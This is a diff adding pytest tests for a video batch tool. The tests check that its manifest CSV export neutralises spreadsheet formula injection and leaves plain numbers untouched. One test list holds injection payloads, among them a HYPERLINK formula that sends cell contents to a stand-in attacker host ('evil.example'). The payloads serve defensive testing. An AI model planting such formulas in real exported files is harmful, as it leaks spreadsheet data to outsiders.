@@ -2,13 +2,23 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import os
 import subprocess
 import sys
 import time
 from pathlib import Path
 
-from vidkit.batch.jobs import JobStore, OutputRecord, sweep_leftovers
+from vidkit.batch.jobs import (
+    JobStore,
+    ManifestRow,
+    OutputRecord,
+    read_manifest,
+    sweep_leftovers,
+    write_manifest,
+)
+from vidkit.files import write_csv
 
 
 def _dead_pid() -> int:
@@ -45,3 +55,26 @@ def test_a_record_is_trusted_only_while_its_file_is_unchanged(tmp_path: Path) ->
     assert store.finished("k1") is None
     video.unlink()
     assert store.finished("k1") is None
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+
+
+def test_manifest_csv_cells_cannot_be_formulas(tmp_path: Path) -> None:
+    rows = [
+        ManifestRow(line=2 + i, clip=f, template="t", platform="9x16", status="failed", error=f)
+        for i, f in enumerate(FORMULAS)
+    ]
+    write_manifest(tmp_path, rows, {})
+    with open(tmp_path / "manifest.csv", encoding="utf-8-sig", newline="") as f:
+        table = list(csv.DictReader(f))
+    assert [r["clip"] for r in table] == ["'" + f for f in FORMULAS]
+    assert [r["error"] for r in table] == ["'" + f for f in FORMULAS]
+    assert [r["line"] for r in table] == [str(2 + i) for i in range(len(FORMULAS))]
+    assert [r["clip"] for r in read_manifest(tmp_path)] == FORMULAS  # the JSON keeps them as given
+
+
+def test_csv_numbers_stay_numbers_and_plain_text_is_untouched() -> None:
+    buf = io.StringIO(newline="")
+    write_csv(buf, ["n", "x", "text"], [[-3, -0.5, "Ann-Marie"], [7, 1.5, "-1"]])
+    assert buf.getvalue() == "n,x,text\r\n-3,-0.5,Ann-Marie\r\n7,1.5,'-1\r\n"
